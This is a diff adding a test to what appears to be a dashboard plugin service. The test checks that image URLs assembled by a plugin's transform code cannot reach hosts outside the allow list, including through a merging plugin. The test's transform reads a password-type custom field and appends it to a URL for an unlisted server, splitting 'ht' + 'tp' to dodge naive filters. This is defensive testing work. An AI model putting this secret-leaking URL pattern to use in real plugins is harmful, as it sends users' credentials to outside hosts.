@@ -87,3 +87,29 @@ t.test('a page fetches from hosts of its data, and a redirect leads to no other'
   t.strictSame(other.asked, [], 'neither the default of a field nor a redirect leads elsewhere');
   t.match((await browser.get(`/plugins/${id}`)).text, `value="${new URL(other.base).host}"`, 'it is shown');
 });
+
+t.test('an address that a transform puts together reaches no unlisted host', async (t) => {
+  const { draw, api } = await openDrawing(t);
+  const [source, picture, other] = [await openWeb(t), await openWeb(t), await openWeb(t)];
+  source.answers['/data'] = (_request, response) =>
+    response.setHeader('Content-Type', 'application/json').end(JSON.stringify({ photo: `${picture.base}/a.png` }));
+  const field = { keyname: 'word', field_type: 'password', name: 'Word', optional: true };
+  const settings = { polling_url: `${source.base}/data`, custom_fields: [field], fields: { word: 's3cret' } };
+  const id = await draw('<img src="{{ photo }}"><img src="{{ built }}">', { strategy: 'polling', ...settings });
+  const code = `function transform({ photo, trmnl }) {
+    const { word } = trmnl.plugin_settings.custom_fields_values;
+    return { photo, built: 'ht' + 'tp://127.0.0.1' + ':${new URL(other.base).port}' + '/?' + word };
+  }`;
+  await api('PUT', `/api/plugin_settings/${id}/markup/transform`, { content: code });
+  const { data } = await api('POST', `/api/plugin_settings/${id}/poll`, {});
+  t.match(data, { built: /s3cret$/ }, 'the transform has run');
+  const merging = await draw(
+    `<img src="{{ private_plugin_${id}.photo }}"><img src="{{ private_plugin_${id}.built }}">`,
+    {
+      ...{ strategy: 'plugin_merge', merge_plugin_setting_ids: [id] },
+    },
+  );
+  await waitFor('pictures', async () => (picture.asked.length > 1 ? true : undefined));
+  t.match((await api('GET', `/api/plugin_settings/${merging}/details`)).data, { screens: [{}] });
+  t.strictSame(other.asked, [], 'nor from the data of a plugin that merges it');
+});
